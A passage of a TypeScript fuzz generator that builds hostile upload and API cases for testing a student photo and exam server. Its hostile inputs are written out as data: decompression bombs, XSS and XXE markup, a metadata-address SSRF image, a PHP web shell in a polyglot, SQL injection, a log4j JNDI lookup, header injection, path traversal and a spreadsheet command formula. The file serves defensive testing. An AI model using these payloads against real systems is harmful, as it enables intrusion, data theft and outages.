// The hostile-input generator of `npm run fuzz` and test/server/fuzz.test.ts: a seeded PRNG picks,
// case by case, a mutator by kind and applies it to real seed photos (read in place from
// KAOZHAO_FACES, never copied) or to the operations of the server's own OpenAPI description. The
// same seed and case count always give the same cases, so a failure found by a 5,000-case run is
// replayed by its seed and index. Nothing here talks to a server: a case is only method, path,
// headers, body and a kind label; scripts/fuzz/runner.ts sends them.
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';
import sharp from 'sharp';

export type Auth = 'none' | 'student' | 'admin';

export interface FuzzCase {
  index: number;
  /** Family.mutator, e.g. image.bitflip, json.wrong_type, multipart.no_boundary: the table's rows. */
  kind: string;
  method: string;
  path: string;
  /** Whose session the runner attaches (a student past consent, or the HQ admin). */
  auth: Auth;
  headers: Record<string, string>;
  body?: Uint8Array;
  /** What exactly was done, to replay or read a failure; never personal data. */
  note: string;
}

// ---------------------------------------------------------------------------------------------
// PRNG

/** mulberry32: tiny, fast and the same on every machine, which is all a replayable fuzz needs. */
export function prng(seed: number) {
  let a = seed >>> 0;
  const next = () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const int = (lo: number, hi: number) => lo + Math.floor(next() * (hi - lo + 1));
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(next() * xs.length)]!;
  const bytes = (n: number) => {
    const out = new Uint8Array(n);
    for (let i = 0; i < n; i++) out[i] = Math.floor(next() * 256);
    return out;
  };
  return { next, int, pick, bytes, chance: (p: number) => next() < p };
}
export type Rng = ReturnType<typeof prng>;

// ---------------------------------------------------------------------------------------------
// Seeds and the assets derived from them

export interface Seed {
  name: string;
  bytes: Uint8Array;
  type: 'jpeg' | 'png' | 'webp';
}

export interface Assets {
  seeds: Seed[];
  /** A PNG whose header (and whose zlib stream) says 30000×30000: 900 megapixels from ~110 KB. */
  bombPng: Uint8Array;
  /** A valid small PNG carrying a zTXt chunk that inflates to 64 MB: a bomb in the metadata. */
  ztxtBombPng: Uint8Array;
}

/**
 * Reads `count` photos from `facesDir/portraits` in place (sorted, then chosen by `seed`, with
 * every PNG kept so both containers are mutated) and derives a WebP and the bombs. Without the
 * photos (a machine without ../shared/data/faces), synthetic images stand in, and `real` says so.
 */
export async function loadAssets(facesDir: string, seed = 1, count = 6): Promise<Assets & { real: boolean }> {
  let files: string[] = [];
  try {
    files = readdirSync(path.join(facesDir, 'portraits'))
      .filter((f) => /\.(jpe?g|png)$/i.test(f))
      .sort();
  } catch {
    files = [];
  }
  const rng = prng(seed);
  const chosen = new Set(files.filter((f) => /\.png$/i.test(f)).slice(0, 2));
  const jpegs = files.filter((f) => !/\.png$/i.test(f));
  while (jpegs.length > 0 && chosen.size < count) chosen.add(rng.pick(jpegs));
  const seeds: Seed[] = [...chosen].sort().map((f) => ({
    name: f,
    bytes: new Uint8Array(readFileSync(path.join(facesDir, 'portraits', f))),
    type: /\.png$/i.test(f) ? 'png' : 'jpeg',
  }));
  const real = seeds.length > 0;
  if (!real) {
    // Noise rather than a flat colour, so the mutators meet real entropy-coded data.
    const raw = Buffer.from(prng(seed).bytes(320 * 400 * 3));
    const img = () => sharp(raw, { raw: { width: 320, height: 400, channels: 3 } });
    seeds.push({
      name: 'synthetic.jpg',
      bytes: new Uint8Array(await img().jpeg().withMetadata().toBuffer()),
      type: 'jpeg',
    });
    seeds.push({ name: 'synthetic.png', bytes: new Uint8Array(await img().png().toBuffer()), type: 'png' });
  }
  const first = seeds.find((s) => s.type === 'jpeg') ?? seeds[0]!;
  const webp = await sharp(first.bytes).resize({ width: 480 }).webp({ quality: 70 }).toBuffer();
  seeds.push({ name: `${first.name}.webp`, bytes: new Uint8Array(webp), type: 'webp' });
  return { seeds, bombPng: bombPng(30_000, 30_000), ztxtBombPng: await ztxtBomb(), real };
}

function pngChunk(type: string, data: Uint8Array): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(Buffer.concat([head.subarray(4), data])) >>> 0, 0);
  return Buffer.concat([head, data, crc]);
}
const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

function ihdr(width: number, height: number, depth: number, colour: number): Buffer {
  const d = Buffer.alloc(13);
  d.writeUInt32BE(width, 0);
  d.writeUInt32BE(height, 4);
  d[8] = depth;
  d[9] = colour;
  return pngChunk('IHDR', d);
}

/** 1-bit greyscale rows of zeros (112 MB raw), deflated in 1000-row slabs through one zlib
 *  stream so the whole image is never held: zlib's ~1000:1 on zeros leaves ~110 KB. */
function bombPng(width: number, height: number): Uint8Array {
  const row = Buffer.alloc(1 + Math.ceil(width / 8));
  const slab = Buffer.concat(Array.from({ length: 1000 }, () => row));
  const z = new ZlibWriter();
  for (let i = 0; i < height / 1000; i++) z.write(slab);
  return new Uint8Array(
    Buffer.concat([
      PNG_SIGNATURE,
      ihdr(width, height, 1, 0),
      pngChunk('IDAT', z.end()),
      pngChunk('IEND', new Uint8Array()),
    ]),
  );
}

/**
 * One zlib stream written in slabs without holding the whole input: each slab is deflated on its
 * own and sync-flushed (a raw deflate block sequence with no reference outside itself, so the
 * pieces concatenate), then a final empty block, the zlib header and the Adler-32 of it all.
 */
class ZlibWriter {
  private a = 1;
  private b = 0;
  private readonly parts: Buffer[] = [Buffer.from([0x78, 0xda])];
  private readonly cache = new Map<Buffer, Buffer>();
  write(slab: Buffer): void {
    let z = this.cache.get(slab);
    if (!z) {
      z = zlib.deflateRawSync(slab, { level: 9, finishFlush: zlib.constants.Z_SYNC_FLUSH });
      this.cache.set(slab, z);
    }
    this.parts.push(z);
    for (const byte of slab) {
      this.a = (this.a + byte) % 65521;
      this.b = (this.b + this.a) % 65521;
    }
  }
  end(): Buffer {
    const tail = Buffer.alloc(4);
    tail.writeUInt32BE(((this.b << 16) | this.a) >>> 0, 0);
    return Buffer.concat([...this.parts, Buffer.from([0x03, 0x00]), tail]);
  }
}

async function ztxtBomb(): Promise<Uint8Array> {
  const png = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#6688aa' } })
    .png()
    .toBuffer();
  const z = new ZlibWriter();
  const slab = Buffer.alloc(1 << 20, 0x41);
  for (let i = 0; i < 64; i++) z.write(slab);
  const data = Buffer.concat([Buffer.from('Comment\0\0', 'latin1'), z.end()]);
  // After IHDR (8 + 25 bytes), before the image data.
  return new Uint8Array(Buffer.concat([png.subarray(0, 33), pngChunk('zTXt', data), png.subarray(33)]));
}

// ---------------------------------------------------------------------------------------------
// Image mutators: each takes a seed's bytes and returns hostile bytes plus what it did.

type Mutated = { bytes: Uint8Array; note: string; type?: string; filename?: string };

function bitflip(rng: Rng, b: Uint8Array): Mutated {
  const out = b.slice();
  const n = rng.pick([1, 2, 8, 64, 512]);
  // Half the flips spare the first bytes so the file still sniffs as its type and reaches the
  // decoder, rather than stopping at the container check.
  const from = rng.chance(0.5) ? Math.min(64, out.length - 1) : 0;
  for (let i = 0; i < n; i++) {
    const at = rng.int(from, out.length - 1);
    out[at]! ^= 1 << rng.int(0, 7);
  }
  return { bytes: out, note: `${n} bit(s) flipped from ${from}` };
}

function truncate(rng: Rng, b: Uint8Array): Mutated {
  const at = rng.pick([0, 1, 2, 3, 8, 16, 100, rng.int(0, b.length - 1), b.length - 2, b.length - 1]);
  return { bytes: b.slice(0, Math.max(0, at)), note: `cut at ${at} of ${b.length}` };
}

/** Offsets of a JPEG's markers up to the scan, read from segment lengths (no full parse). */
function jpegSegments(b: Uint8Array): { marker: number; at: number; len: number }[] {
  const out: { marker: number; at: number; len: number }[] = [];
  let i = 2;
  while (i + 4 <= b.length && b[i] === 0xff) {
    const marker = b[i + 1]!;
    const len = (b[i + 2]! << 8) | b[i + 3]!;
    out.push({ marker, at: i, len });
    if (marker === 0xda) break;
    i += 2 + len;
  }
  return out;
}

const LIE_SIZES = [0, 1, 65_000, 65_535, 30_000, 7_071, 8] as const;

function headerLie(rng: Rng, seed: Seed): Mutated {
  const out = seed.bytes.slice();
  const w = rng.pick(LIE_SIZES);
  const h = rng.pick(LIE_SIZES);
  if (seed.type === 'jpeg') {
    const sof = jpegSegments(out).find((s) => s.marker >= 0xc0 && s.marker <= 0xc2);
    if (!sof) return { bytes: out, note: 'no SOF found: unchanged' };
    // SOF: length(2) precision(1) height(2) width(2) components(1)…
    const p = sof.at + 4;
    if (rng.chance(0.3)) {
      out[p]! = rng.pick([0, 1, 12, 16, 255]);
      out[p + 5]! = rng.pick([0, 2, 5, 255]);
      return { bytes: out, note: `SOF precision ${out[p]} components ${out[p + 5]}` };
    }
    out[p + 1] = h >> 8;
    out[p + 2] = h & 0xff;
    out[p + 3] = w >> 8;
    out[p + 4] = w & 0xff;
    return { bytes: out, note: `SOF says ${w}×${h}` };
  }
  if (seed.type === 'png') {
    // IHDR data starts at 16: width, height, depth, colour type, compression, filter, interlace.
    const v = Buffer.from(out.buffer, out.byteOffset, out.byteLength);
    const what = rng.int(0, 3);
    if (what === 0) {
      v.writeUInt32BE(rng.pick([0, 30_000, 0x7fffffff, 0xffffffff]), 16);
      v.writeUInt32BE(rng.pick([0, 1, 30_000, 0x7fffffff]), 20);
    } else if (what === 1) {
      out[25] = rng.pick([1, 3, 5, 7, 255]); // colour types a PNG may not have, or palette without PLTE
    } else if (what === 2) {
      out[24] = rng.pick([0, 3, 16, 32, 255]); // bit depth lies for the colour type
    } else {
      out[26] = rng.pick([1, 255]);
      out[28] = rng.pick([1, 2, 255]); // compression / interlace methods that do not exist
    }
    // Half the lies get a fresh CRC, so they pass the chunk check and reach the decoder.
    const fixCrc = rng.chance(0.5);
    if (fixCrc) v.writeUInt32BE(zlib.crc32(v.subarray(12, 29)) >>> 0, 29);
    return { bytes: out, note: `IHDR lie ${what}${fixCrc ? ' (CRC fixed)' : ''}` };
  }
  // WebP VP8/VP8L/VP8X: overwrite the canvas bytes after the chunk header with extremes.
  for (let i = 20; i < Math.min(40, out.length); i++) if (rng.chance(0.5)) out[i] = 0xff;
  return { bytes: out, note: 'WebP frame header bytes set to 0xff' };
}

/** An APP1 EXIF segment with an absurd orientation, a huge IFD count, or IFD offsets that loop. */
function exifLie(rng: Rng, seed: Seed): Mutated {
  const jpeg = seed.type === 'jpeg' ? seed.bytes : undefined;
  const tiff = Buffer.alloc(64);
  const le = rng.chance(0.5);
  tiff.write(le ? 'II' : 'MM', 0, 'latin1');
  const u16 = (v: number, at: number) => (le ? tiff.writeUInt16LE(v, at) : tiff.writeUInt16BE(v, at));
  const u32 = (v: number, at: number) => (le ? tiff.writeUInt32LE(v >>> 0, at) : tiff.writeUInt32BE(v >>> 0, at));
  u16(42, 2);
  const variant = rng.int(0, 3);
  let note: string;
  if (variant === 0) {
    u32(8, 4);
    u16(1, 8); // one entry
    u16(0x0112, 10); // Orientation
    u16(3, 12); // SHORT
    u32(1, 14);
    const o = rng.pick([0, 9, 255, 65_535]);
    u16(o, 18);
    u32(0, 22);
    note = `EXIF orientation ${o}`;
  } else if (variant === 1) {
    u32(8, 4);
    u16(0xffff, 8); // 65,535 entries promised, ~50 bytes present
    note = 'EXIF IFD count 65535';
  } else if (variant === 2) {
    u32(8, 4);
    u16(1, 8);
    u16(0x8769, 10); // ExifIFD pointer …
    u16(4, 12);
    u32(1, 14);
    u32(8, 18); // … back to IFD0: a loop
    u32(8, 22); // next IFD: itself
    note = 'EXIF IFD loop';
  } else {
    u32(rng.pick([0xffffffff, 0x7fffffff, 60]), 4);
    note = 'EXIF IFD0 offset out of range';
  }
  const payload = Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), tiff]);
  const seg = Buffer.alloc(4);
  seg[0] = 0xff;
  seg[1] = 0xe1;
  // Sometimes the segment length itself lies (past the end of the file, or shorter than the data).
  const lenLie = rng.chance(0.25);
  seg.writeUInt16BE(lenLie ? rng.pick([0, 2, 0xffff]) : payload.length + 2, 2);
  if (!jpeg) {
    // A PNG gets its eXIf chunk instead, same payload without the Exif\0\0 prefix.
    const png = Buffer.from(seed.bytes);
    return {
      bytes: new Uint8Array(Buffer.concat([png.subarray(0, 33), pngChunk('eXIf', tiff), png.subarray(33)])),
      note: `PNG eXIf: ${note}`,
      type: 'image/png',
    };
  }
  const b = Buffer.from(jpeg);
  return {
    bytes: new Uint8Array(Buffer.concat([b.subarray(0, 2), seg, payload, b.subarray(2)])),
    note: `${note}${lenLie ? ', segment length lies' : ''}`,
  };
}

/** A ZIP with one stored file, hand-built: enough for unzip tools (and XLSX sniffers) to see one. */
function tinyZip(name: string, content: string): Buffer {
  const data = Buffer.from(content);
  const fname = Buffer.from(name);
  const crc = zlib.crc32(data) >>> 0;
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(fname.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(data.length, 24);
  central.writeUInt16LE(fname.length, 28);
  const cdOffset = local.length + fname.length + data.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + fname.length, 12);
  end.writeUInt32LE(cdOffset, 16);
  return Buffer.concat([local, fname, data, central, fname, end]);
}

const HTML =
  '<!doctype html><html><body><script>alert(document.cookie)</script><img src=x onerror=alert(1)></body></html>';
const SVGS = [
  '<svg xmlns="http://www.w3.org/2000/svg" width="480" height="640"><script>alert(1)</script><rect width="100%" height="100%" fill="#438edb"/></svg>',
  '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
  // The "billion laughs" entity bomb.
  `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_, i) => `<!ENTITY ${String.fromCharCode(98 + i)} "${`&${String.fromCharCode(97 + i)};`.repeat(10)}">`).join('')}]><svg xmlns="http://www.w3.org/2000/svg"><text>&j;</text></svg>`,
  '<svg xmlns="http://www.w3.org/2000/svg" width="100000" height="100000"><image href="http://169.254.169.254/latest/meta-data/"/></svg>',
];

function polyglot(rng: Rng, seed: Seed): Mutated {
  const b = Buffer.from(seed.bytes);
  switch (rng.int(0, 3)) {
    case 0:
      return {
        bytes: new Uint8Array(Buffer.concat([b, tinyZip('[Content_Types].xml', '<Types/>')])),
        note: 'image + ZIP',
      };
    case 1:
      return { bytes: new Uint8Array(Buffer.concat([b, Buffer.from(HTML)])), note: 'image + HTML' };
    case 2:
      // A JPEG signature, then an HTML page: sniffs as JPEG, renders as HTML in a sniffing browser.
      return {
        bytes: new Uint8Array(Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(HTML)])),
        note: 'JPEG magic + HTML',
      };
    default:
      return {
        bytes: new Uint8Array(
          Buffer.concat([Buffer.from(PNG_SIGNATURE), tinyZip('a.php', '<?php system($_GET[c]); ?>')]),
        ),
        note: 'PNG magic + ZIP',
      };
  }
}

function markup(rng: Rng): Mutated {
  if (rng.chance(0.5)) {
    const svg = rng.pick(SVGS);
    return {
      bytes: new Uint8Array(Buffer.from(svg)),
      note: 'SVG',
      type: rng.pick(['image/jpeg', 'image/png', 'image/svg+xml']),
      filename: rng.pick(['photo.jpg', 'photo.svg']),
    };
  }
  return {
    bytes: new Uint8Array(Buffer.from(HTML)),
    note: 'HTML',
    type: rng.pick(['image/jpeg', 'image/png', 'text/html']),
    filename: rng.pick(['photo.jpg', 'index.html']),
  };
}

function heic(rng: Rng): Mutated {
  const brand = rng.pick(['heic', 'heix', 'mif1', 'msf1', 'avif', 'hevc', 'isom']);
  const box = Buffer.alloc(24);
  box.writeUInt32BE(24, 0);
  box.write('ftyp', 4, 'latin1');
  box.write(brand, 8, 'latin1');
  box.write('mif1heic', 16, 'latin1');
  const rest = Buffer.from(rng.bytes(rng.int(0, 4096)));
  return {
    bytes: new Uint8Array(Buffer.concat([box, rest])),
    note: `ftyp ${brand}`,
    type: 'image/heic',
    filename: 'IMG_0001.HEIC',
  };
}

// ---------------------------------------------------------------------------------------------
// Multipart bodies

const CRLF = '\r\n';

interface Part {
  name: string;
  filename?: string;
  type?: string;
  bytes: Uint8Array;
}

function multipartBody(parts: Part[], boundary: string): Uint8Array {
  const chunks: Buffer[] = [];
  for (const p of parts) {
    const disp = `Content-Disposition: form-data; name="${p.name}"${p.filename !== undefined ? `; filename="${p.filename}"` : ''}`;
    const type = p.type !== undefined ? `${CRLF}Content-Type: ${p.type}` : '';
    chunks.push(
      Buffer.from(`--${boundary}${CRLF}${disp}${type}${CRLF}${CRLF}`),
      Buffer.from(p.bytes),
      Buffer.from(CRLF),
    );
  }
  chunks.push(Buffer.from(`--${boundary}--${CRLF}`));
  return new Uint8Array(Buffer.concat(chunks));
}

/** The three routes that read a file: a student's photo, the exam-entry frame, the roster. */
interface UploadTarget {
  path: string;
  field: string;
  auth: Auth;
}
const UPLOAD_TARGETS: { target: UploadTarget; weight: number }[] = [
  { target: { path: '/api/student/photos', field: 'photo', auth: 'student' }, weight: 7 },
  { target: { path: '/api/admin/students/{studentNumber}/verify-face', field: 'photo', auth: 'admin' }, weight: 2 },
  { target: { path: '/api/admin/roster', field: 'file', auth: 'admin' }, weight: 1 },
  { target: { path: '/api/admin/exam/detect-face', field: 'photo', auth: 'admin' }, weight: 1 },
];

function uploadTarget(rng: Rng, studentNumber: string): UploadTarget {
  let r = rng.next() * UPLOAD_TARGETS.reduce((n, t) => n + t.weight, 0);
  for (const t of UPLOAD_TARGETS) {
    r -= t.weight;
    if (r < 0) return { ...t.target, path: t.target.path.replace('{studentNumber}', studentNumber) };
  }
  return UPLOAD_TARGETS[0]!.target;
}

// ---------------------------------------------------------------------------------------------
// OpenAPI-driven JSON

export interface JsonSchema {
  type?: string | string[];
  enum?: unknown[];
  format?: string;
  minimum?: number;
  maximum?: number;
  minLength?: number;
  maxLength?: number;
  minProperties?: number;
  properties?: Record<string, JsonSchema>;
  required?: string[];
  items?: JsonSchema;
}
export interface Parameter {
  in: 'path' | 'query' | 'header' | 'cookie';
  name: string;
  schema: JsonSchema;
}
export interface Operation {
  parameters?: Parameter[];
  requestBody?: { content: Record<string, { schema: JsonSchema }> };
}
export interface OpenApiDoc {
  paths: Record<string, Record<string, Operation>>;
}

interface Op {
  method: string;
  route: string;
  auth: Auth;
  params: Parameter[];
  body?: JsonSchema;
}

/**
 * Routes left out: signing out would end the sessions the rest of the run uses, and the event
 * stream holds a request open for minutes by design. Everything else the server publishes is in.
 */
const SKIP = /\/logout$|\/events$/;

function operations(doc: OpenApiDoc): Op[] {
  const out: Op[] = [];
  for (const [route, ops] of Object.entries(doc.paths)) {
    if (SKIP.test(route)) continue;
    for (const [method, op] of Object.entries(ops)) {
      out.push({
        method: method.toUpperCase(),
        route,
        auth: route.startsWith('/api/admin') ? 'admin' : route.startsWith('/api/student') ? 'student' : 'none',
        params: (op.parameters ?? []).filter((p) => p.in === 'path' || p.in === 'query'),
        body: op.requestBody?.content['application/json']?.schema,
      });
    }
  }
  return out;
}

const typeOf = (s: JsonSchema) => (Array.isArray(s.type) ? s.type.find((t) => t !== 'null') : s.type);

/** A value that passes the schema, for the fields a mutation leaves alone. */
function sample(rng: Rng, s: JsonSchema): unknown {
  if (s.enum) return rng.pick(s.enum);
  switch (typeOf(s)) {
    case 'integer':
    case 'number':
      return s.minimum ?? 1;
    case 'boolean':
      return false;
    case 'array':
      return [];
    case 'object': {
      const out: Record<string, unknown> = {};
      for (const n of s.required ?? []) out[n] = sample(rng, s.properties?.[n] ?? {});
      return out;
    }
    default:
      if (s.format === 'date-time') return '2031-01-01T00:00:00.000Z';
      if (s.format === 'uuid' || s.minLength === 36) return '00000000-0000-4000-8000-000000000000';
      return 'fuzz'.padEnd(Math.max(s.minLength ?? 0, 6), 'z').slice(0, s.maxLength ?? 64);
  }
}

const WRONG_TYPES: unknown[] = [null, true, 0, -1, '', 'x', [], {}, [1, 'a'], { a: 1 }, 1.5, '1', 'true'];
/** Strings that are valid JSON but hostile to what stores or shows them. */
const UNICODE = [
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\udfff\ud800',
  '\u202egnp.exe',
  '\ufeff',
  '\u200b\u200d\u2060',
  '😀'.repeat(20),
  'Ω≈ç√∫',
  '\u0001\u001f\u007f',
  '𠜎𠜱𠝹𠱓',
  'é'.normalize('NFD'),
  "'; DROP TABLE students; --",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text is the attack (a log4j lookup).
  '${jndi:ldap://x/a}',
  '{{7*7}}',
  '%s%s%s%n',
  '\r\nSet-Cookie: kz_admin=x',
  '../../../../etc/passwd',
  "=cmd|' /C calc'!A0",
];
const NUMBERS = [
  '1e309',
  '-1e309',
  '1e-400',
  '-0',
  '9007199254740993',
  '123456789012345678901234567890',
  '0.1e1',
  '2147483648',
  '-2147483649',
  '4294967296',
];

function jsonText(v: unknown): string {
  return JSON.stringify(v);
}

/** Deep nesting as text: JSON.stringify itself would recurse. */
function nested(depth: number, open: string, close: string, inner = '1'): string {
  return open.repeat(depth) + inner + close.repeat(depth);
}

function jsonCase(rng: Rng, op: Op): { kind: string; body: string; note: string; type?: string } {
  const schema = op.body!;
  const props = Object.entries(schema.properties ?? {});
  const base = sample(rng, schema) as Record<string, unknown>;
  const [field, fieldSchema] = props.length ? rng.pick(props) : ['x', {} as JsonSchema];
  const withField = (raw: string) => {
    const rest = jsonText({ ...base, [field]: undefined });
    return rest === '{}' ? `{${jsonText(field)}:${raw}}` : `${rest.slice(0, -1)},${jsonText(field)}:${raw}}`;
  };
  switch (rng.pick(['wrong_type', 'missing', 'huge_string', 'deep', 'proto', 'unicode', 'number', 'syntax', 'extra'])) {
    case 'wrong_type': {
      const v = rng.pick(WRONG_TYPES);
      return {
        kind: 'json.wrong_type',
        body: withField(jsonText(v)),
        note: `${field} (${typeOf(fieldSchema) ?? '?'}) = ${jsonText(v)}`,
      };
    }
    case 'missing': {
      const req = schema.required ?? [];
      const drop = req.length ? rng.pick(req) : field;
      const b = { ...base };
      delete b[drop];
      return { kind: 'json.missing', body: jsonText(b), note: `without ${drop}` };
    }
    case 'huge_string': {
      // Under the 1 MB body limit (reaches validation and whatever a field has no maxLength on),
      // or over it (the parser's limit).
      const n = rng.pick([10_000, 200_000, 900_000, 1_100_000]);
      return { kind: 'json.huge_string', body: withField(jsonText('x'.repeat(n))), note: `${field} = ${n} chars` };
    }
    case 'deep': {
      const depth = rng.pick([1_000, 10_000, 100_000, 400_000]);
      const [o, c] = rng.chance(0.5) ? ['[', ']'] : ['{"a":', '}'];
      return { kind: 'json.deep', body: withField(nested(depth, o!, c!)), note: `${field} nested ${depth} deep` };
    }
    case 'proto': {
      const raw = rng.pick([
        '{"__proto__":{"isAdmin":true,"role":"hq"}}',
        '{"constructor":{"prototype":{"role":"hq"}}}',
        '{"__proto__":null}',
      ]);
      const whole = rng.chance(0.5);
      const body = whole
        ? `${jsonText(base).slice(0, -1)}${Object.keys(base).length ? ',' : ''}${raw.slice(1)}`
        : withField(raw);
      return { kind: 'json.proto', body, note: `${whole ? 'top-level' : field} ${raw.slice(0, 30)}` };
    }
    case 'unicode': {
      const v = rng.pick(UNICODE);
      // Lone surrogates must be written as escapes: JSON.stringify already does so.
      return { kind: 'json.unicode', body: withField(jsonText(v)), note: `${field} = ${jsonText(v).slice(0, 40)}` };
    }
    case 'number': {
      const v = rng.pick(NUMBERS);
      return { kind: 'json.number', body: withField(v), note: `${field} = ${v}` };
    }
    case 'extra': {
      const key = rng.pick(['id', 'role', 'unitId', 'status', 'studentId', 'isAdmin', 'x'.repeat(5000)]);
      return { kind: 'json.extra', body: jsonText({ ...base, [key]: 1 }), note: `extra ${key.slice(0, 20)}` };
    }
    default: {
      const good = jsonText(base);
      const v = rng.pick([
        ['truncated', good.slice(0, Math.max(1, good.length - rng.int(1, good.length)))],
        ['trailing comma', `${good.slice(0, -1)},}`],
        ['single quotes', good.replaceAll('"', "'")],
        ['empty', ''],
        ['null', 'null'],
        ['array', '[]'],
        ['string', '"x"'],
        ['number', '42'],
        ['BOM', `\ufeff${good}`],
        ['NaN', `{${jsonText(field)}:NaN}`],
        [
          'duplicate keys',
          `${good.slice(0, -1)}${good.length > 2 ? ',' : ''}${jsonText(field)}:1,${jsonText(field)}:2}`,
        ],
        ['comment', `/*x*/${good}`],
        ['raw control char', `{${jsonText(field)}:"a\u0000\u0007b"}`],
        ['invalid UTF-8', '\u00ff\u00fe'],
      ] as const);
      return { kind: 'json.syntax', body: v[1], note: v[0], type: v[0] === 'invalid UTF-8' ? 'latin1' : undefined };
    }
  }
}

/** Path and query values no schema should let through to the database. */
const BAD_PARAMS = [
  '2147483648',
  '-1',
  '1e30',
  'NaN',
  '0x10',
  'zzzzzzzz-zzzz-zzzz-zzzz-zzzzzzzzzzzz',
  '00000000-0000-0000-0000-00000000000g',
  'x'.repeat(5000),
  "1' OR '1'='1",
  '\u0000',
  'a\u0000b',
  '\ud800',
  '..%2f..%2fetc%2fpasswd',
  '../../etc/passwd',
  '😀',
  '%',
  ' ',
  'true',
  '[]',
  '{"a":1}',
];

/**
 * A path segment as a hostile client sends it: `%` left raw (so `%2f` and a lone `%` reach the
 * router as typed) and a lone surrogate as its WTF-8 bytes, which no valid UTF-8 has
 * (encodeURIComponent would throw on it).
 */
function pathSegment(v: string): string {
  let out = '';
  for (const ch of v) {
    const code = ch.codePointAt(0)!;
    if (code >= 0xd800 && code <= 0xdfff) {
      out +=
        `%${(0xe0 | (code >> 12)).toString(16)}%${(0x80 | ((code >> 6) & 0x3f)).toString(16)}%${(0x80 | (code & 0x3f)).toString(16)}`.toUpperCase();
    } else out += ch === '%' ? '%' : encodeURIComponent(ch);
  }
  return out;
}

function fillPath(rng: Rng, op: Op, bad?: { name: string; value: string }): string {
  let url = op.route;
  const query = new URLSearchParams();
  for (const p of op.params) {
    const v = bad?.name === p.name ? bad.value : String(sample(rng, p.schema));
    if (p.in === 'path') url = url.replace(`{${p.name}}`, pathSegment(v));
    else if (bad?.name === p.name || rng.chance(0.3)) query.set(p.name, v);
  }
  const q = query.toString();
  return q ? `${url}?${q}` : url;
}

// ---------------------------------------------------------------------------------------------
// The generator

export interface GenerateOptions {
  assets: Assets;
  doc: OpenApiDoc;
  /** The server's upload limit in bytes: the over-the-limit case is this plus a little. */
  uploadLimitBytes: number;
  /** A student number that exists, for the admin routes that name one (verify-face). */
  studentNumber: string;
  seed: number;
}

const FAMILIES = [
  ['image', 45],
  ['multipart', 15],
  ['json', 30],
  ['params', 7],
  ['headers', 3],
] as const;

/** Case `index` of the run seeded `seed`: each case has its own PRNG, so a subset replays alone. */
export function generateCase(o: GenerateOptions, index: number): FuzzCase {
  const rng = prng((o.seed * 0x9e3779b1) ^ (index * 0x85ebca6b));
  let r = rng.next() * 100;
  let family: (typeof FAMILIES)[number][0] = 'image';
  for (const [f, w] of FAMILIES) {
    r -= w;
    if (r < 0) {
      family = f;
      break;
    }
  }
  const c = (kind: string, rest: Omit<FuzzCase, 'index' | 'kind'>): FuzzCase => ({ index, kind, ...rest });
  const ops = operations(o.doc);

  if (family === 'image') {
    const seed = rng.pick(o.assets.seeds);
    const t = uploadTarget(rng, o.studentNumber);
    const which = rng.pick([
      'bitflip',
      'bitflip',
      'truncate',
      'truncate',
      'header_lie',
      'header_lie',
      'exif',
      'exif',
      'bomb',
      'polyglot',
      'markup',
      'heic',
      'content_type',
    ]);
    let m: Mutated;
    switch (which) {
      case 'bitflip':
        m = bitflip(rng, seed.bytes);
        break;
      case 'truncate':
        m = truncate(rng, seed.bytes);
        break;
      case 'header_lie':
        m = headerLie(rng, seed);
        break;
      case 'exif':
        m = exifLie(rng, seed);
        break;
      case 'bomb':
        m = rng.chance(0.6)
          ? { bytes: o.assets.bombPng, note: 'PNG 30000×30000', type: 'image/png' }
          : { bytes: o.assets.ztxtBombPng, note: 'PNG with a 64 MB zTXt', type: 'image/png' };
        break;
      case 'polyglot':
        m = polyglot(rng, seed);
        break;
      case 'markup':
        m = markup(rng);
        break;
      case 'heic':
        m = heic(rng);
        break;
      default:
        m = {
          bytes: seed.bytes,
          note: 'a real photo, lying content type and name',
          type: rng.pick([
            'text/plain',
            'application/x-msdownload',
            'image/gif',
            '',
            'image/jpeg; charset=utf-8',
            'x/y\u0000z',
          ]),
          filename: rng.pick([
            'photo.exe',
            '',
            '..\\..\\evil.jpg',
            '../../etc/passwd',
            'x'.repeat(4000),
            '\u202egpj.exe',
            'a"b.jpg',
          ]),
        };
    }
    const boundary = `----fz${index}x${rng.int(0, 1e9)}`;
    const fields: Part[] = rng.chance(0.3)
      ? [{ name: 'source', bytes: Buffer.from(rng.pick(['camera', 'upload', 'x'])) }]
      : [];
    const body = multipartBody(
      [
        ...fields,
        {
          name: t.field,
          filename: m.filename ?? `seed.${seed.type === 'jpeg' ? 'jpg' : seed.type}`,
          type: m.type ?? `image/${seed.type}`,
          bytes: m.bytes,
        },
      ],
      boundary,
    );
    return c(`image.${which}`, {
      method: 'POST',
      path: t.path,
